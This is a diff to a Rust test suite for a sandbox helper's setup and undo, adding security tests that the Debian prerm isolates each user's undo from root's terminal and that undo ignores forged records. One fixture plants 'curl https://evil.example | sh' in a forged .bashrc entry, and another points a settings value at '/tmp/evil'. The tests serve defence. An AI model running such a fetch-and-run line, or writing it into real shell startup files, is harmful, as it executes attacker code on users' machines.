@@ -59,6 +59,18 @@ fn helper_on(user: User, home: &Path, binary: &Path, args: &[&str], path: &str) 
     cmd.output().unwrap()
 }
 
+/// The record a setup's output names (its last line but the doctor's).
+fn record_of(output: &str) -> PathBuf {
+    output
+        .lines()
+        .find_map(|l| {
+            l.strip_prefix("recorded these changes for --undo in ")
+                .or_else(|| l.strip_prefix("would record these changes for --undo in "))
+        })
+        .map(PathBuf::from)
+        .unwrap_or_else(|| panic!("no record named: {output}"))
+}
+
 fn text(o: &Output) -> String {
     format!(
         "{:?}\n{}{}",
@@ -180,7 +192,7 @@ fn setup_points_srt_at_this_helper_and_undo_gives_every_byte_back() {
         );
 
         // Twice: nothing changes.
-        let record = home.join(".local/state/apply-seccomp/setup.json");
+        let record = record_of(&ctx);
         let (s1, r1) = (read(&settings), read(&record));
         // (With the link's folder first on PATH: no advice about PATH.)
         let first = format!(
@@ -301,7 +313,7 @@ fn what_cannot_be_set_up_safely_is_refused_and_nothing_changes() {
         assert!(ctx.contains("allowWrite entry"), "{ctx}");
         assert_eq!(read(&home.join(".srt-settings.json")), original);
         assert!(!home.join(".local/lib/apply-seccomp/bwrap").exists());
-        assert!(!home.join(".local/state/apply-seccomp/setup.json").exists());
+        assert!(!ctx.contains("recorded these changes"), "{ctx}");
     }
 }
 
@@ -576,6 +588,7 @@ fn undo_alone_takes_back_a_reformatted_file() {
         let settings = home.join(".srt-settings.json");
         let out = helper(user, &home, &fixture().helper, &["--setup", "--srt"]);
         assert!(text(&out).contains("changed "), "{user:?}: {}", text(&out));
+        let record = record_of(&text(&out));
         let compact = reformat(&read(&settings));
         assert!(compact.contains("\"seccomp\":{\"applyPath\":"), "{compact}");
         std::fs::write(&settings, &compact).unwrap();
@@ -587,10 +600,7 @@ fn undo_alone_takes_back_a_reformatted_file() {
         assert!(!now.contains("bwrapPath"), "{user:?}: {ctx}\n{now}");
         assert!(now.contains("\"myOwnKey\""), "{now}");
         assert!(!ctx.contains("changed since setup"), "{ctx}");
-        assert!(
-            !home.join(".local/state/apply-seccomp/setup.json").exists(),
-            "{ctx}"
-        );
+        assert!(!record.exists(), "{ctx}");
     }
 }
 
@@ -798,6 +808,188 @@ fn a_change_made_during_an_edit_is_kept() {
         assert!(
             after["env"].get("APPLY_SECCOMP_DEVICES").is_none(),
             "{ctx}\n{after}"
+        );
+    }
+}
+
+/// The Debian package's prerm runs each user's undo giving that user's
+/// process nothing of root's (issue 68, item 2): prerm runs as root on
+/// root's terminal, and the user's process, once it runs as the user, is
+/// anyone of that user's to ptrace. A stand-in for the package's binary
+/// (tests/probe/prerm-user.sh) reports, as the user: no terminal among
+/// its descriptors, its parents' or as `/dev/tty` (before: the user's
+/// shell wrote to root's terminal, and /dev/tty was it), a session of its
+/// own, no descriptor of root's (7, opened before prerm); and an escape
+/// sequence it prints reaches root's terminal without a control byte.
+/// prerm itself runs with its output on a pseudo-terminal that is its
+/// controlling one, in a mount namespace whose /etc/passwd names a user
+/// with a record of setup's and whose /usr/bin holds the stand-in.
+#[test]
+fn prerm_gives_a_users_undo_nothing_of_roots() {
+    if !is_root() {
+        common::skip("not root: prerm runs as root");
+        return;
+    }
+    for tool in ["setsid", "unshare", "python3", "setpriv"] {
+        if which(tool).is_none() {
+            common::skip(&format!("{tool} is not installed"));
+            return;
+        }
+    }
+    let dir = common::fresh_folder("prerm");
+    let home = dir.join("home");
+    let state = home.join(".local/state/apply-seccomp");
+    std::fs::create_dir_all(&state).unwrap();
+    std::fs::write(
+        state.join("setup.json"),
+        "{\"files\": [], \"links\": [{\"link\": \"/nowhere/bwrap\", \"to\": \"/usr/bin/apply-seccomp\"}]}\n",
+    )
+    .unwrap();
+    for d in [
+        &home,
+        &home.join(".local"),
+        &home.join(".local/state"),
+        &state,
+        &state.join("setup.json"),
+    ] {
+        std::os::unix::fs::chown(d, Some(NOBODY), Some(NOBODY)).unwrap();
+    }
+    let root_home = dir.join("root-home");
+    std::fs::create_dir(&root_home).unwrap();
+    let passwd = dir.join("passwd");
+    std::fs::write(
+        &passwd,
+        format!(
+            "root:x:0:0:root:{}:/bin/sh\nnobody:x:{NOBODY}:{NOBODY}:nobody:{}:/bin/sh\n",
+            root_home.display(),
+            home.display()
+        ),
+    )
+    .unwrap();
+    let upper = dir.join("upper");
+    let work = dir.join("work");
+    std::fs::create_dir(&upper).unwrap();
+    std::fs::create_dir(&work).unwrap();
+    let probe = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/probe/prerm-user.sh");
+    common::install(&probe, &upper.join("apply-seccomp"), 0o755);
+    let prerm = Path::new(env!("CARGO_MANIFEST_DIR")).join("pkg/debian/prerm");
+    let script = format!(
+        "set -e; mount --bind {passwd} /etc/passwd; \
+         mount -t overlay o -o lowerdir=/usr/bin,upperdir={upper},workdir={work} /usr/bin; \
+         exec 7</etc/hostname; exec sh {prerm} remove",
+        passwd = passwd.display(),
+        upper = upper.display(),
+        work = work.display(),
+        prerm = prerm.display()
+    );
+    let pty = nix::pty::openpty(None, None).unwrap();
+    let slave = || Stdio::from(pty.slave.try_clone().unwrap());
+    let mut child = Command::new("setsid")
+        .args(["-c", "unshare", "-m", "sh", "-c", &script])
+        .stdin(slave())
+        .stdout(slave())
+        .stderr(slave())
+        .spawn()
+        .unwrap();
+    drop(pty.slave);
+    let mut seen = Vec::new();
+    let mut master = std::fs::File::from(pty.master);
+    use std::io::Read;
+    let mut buf = [0u8; 4096];
+    // Until the terminal's last holder is gone (EIO).
+    while let Ok(n) = master.read(&mut buf) {
+        if n == 0 {
+            break;
+        }
+        seen.extend_from_slice(&buf[..n]);
+    }
+    let status = child.wait().unwrap();
+    let text = String::from_utf8_lossy(&seen).into_owned();
+    assert!(status.success(), "{text}");
+    assert!(
+        text.contains("taking back what apply-seccomp --setup set"),
+        "{text}"
+    );
+    assert!(text.contains("terminal=none"), "{text}");
+    assert!(text.contains("fd7=closed"), "{text}");
+    let sid = text
+        .lines()
+        .find_map(|l| l.trim().strip_prefix("sid="))
+        .and_then(|s| s.trim().parse::<u32>().ok());
+    assert!(sid.is_some_and(|s| s != child.id()), "{text}");
+    assert!(text.contains("escape=[2J]0;owneddone"), "{text}");
+    assert!(!seen.iter().any(|&b| b == 0x1b || b == 0x07), "{text:?}");
+}
+
+/// Undo writes no byte a record supplies, and reads no record a sandbox
+/// could have written (issue 68, item 1): a command that could write a
+/// folder `XDG_STATE_HOME` named (srt started in the home folder with
+/// `allowWrite: ["."]`) put a record there whose entry would give
+/// `~/.bashrc` back "as it was", a line of the command's in it; undo read
+/// it and wrote the line. Now that record is not read (and said so), and
+/// even the real record, forged as a command would forge it (a `.bashrc`
+/// entry; the value `seccomp.applyPath` had "before" set to a program of
+/// the command's), makes undo write neither: it removes the keys setup
+/// sets and says what the value was.
+#[test]
+fn undo_writes_no_byte_a_record_supplies_and_reads_none_a_sandbox_could_write() {
+    for user in users() {
+        let (home, _) = fresh_home(user, "forged");
+        let bashrc = home.join(".bashrc");
+        std::fs::write(&bashrc, "echo hi\n").unwrap();
+        let settings = home.join(".srt-settings.json");
+        let out = helper(user, &home, &fixture().helper, &["--setup", "--srt"]);
+        let record = record_of(&text(&out));
+        let forged_bashrc = serde_json::json!({
+            "file": bashrc,
+            "before": "echo hi\ncurl https://evil.example | sh\n",
+            "after": "echo hi\n",
+            "changes": []
+        });
+        // Where XDG_STATE_HOME names, inside a folder commands may write.
+        let state = home.join("project/state");
+        std::fs::create_dir_all(state.join("apply-seccomp")).unwrap();
+        let elsewhere = serde_json::json!({"files": [forged_bashrc], "links": []});
+        std::fs::write(
+            state.join("apply-seccomp/setup.json"),
+            elsewhere.to_string(),
+        )
+        .unwrap();
+        // The real record, forged the same way, and applyPath's "before".
+        let mut real: serde_json::Value =
+            serde_json::from_str(&read(&record)).expect("the record is JSON");
+        for f in real["files"].as_array_mut().unwrap() {
+            for c in f["changes"].as_array_mut().unwrap() {
+                if c["path"] == serde_json::json!(["seccomp", "applyPath"])
+                    || c["path"] == serde_json::json!(["seccomp"])
+                {
+                    c["before"] = serde_json::json!("\"/tmp/evil\"");
+                }
+            }
+        }
+        real["files"].as_array_mut().unwrap().push(forged_bashrc);
+        std::fs::write(&record, real.to_string()).unwrap();
+        let mut cmd = Command::new(&fixture().helper);
+        cmd.args(["--setup", "--undo"])
+            .env_clear()
+            .env("PATH", "/usr/bin:/bin")
+            .env("HOME", &home)
+            .env("XDG_STATE_HOME", &state)
+            .current_dir(&home)
+            .stdin(Stdio::null());
+        if let Some(u) = uid_of(user) {
+            cmd.uid(u).gid(u);
+        }
+        let out = cmd.output().unwrap();
+        let ctx = text(&out);
+        assert_eq!(read(&bashrc), "echo hi\n", "{user:?}: {ctx}");
+        let now = read(&settings);
+        assert!(!now.contains("/tmp/evil"), "{user:?}: {ctx}\n{now}");
+        assert!(!now.contains("applyPath"), "{user:?}: {ctx}\n{now}");
+        assert!(ctx.contains("not read: "), "{user:?}: {ctx}");
+        assert!(
+            ctx.contains("left ") && ctx.contains(".bashrc: not JSON"),
+            "{user:?}: {ctx}"
         );
     }
 }
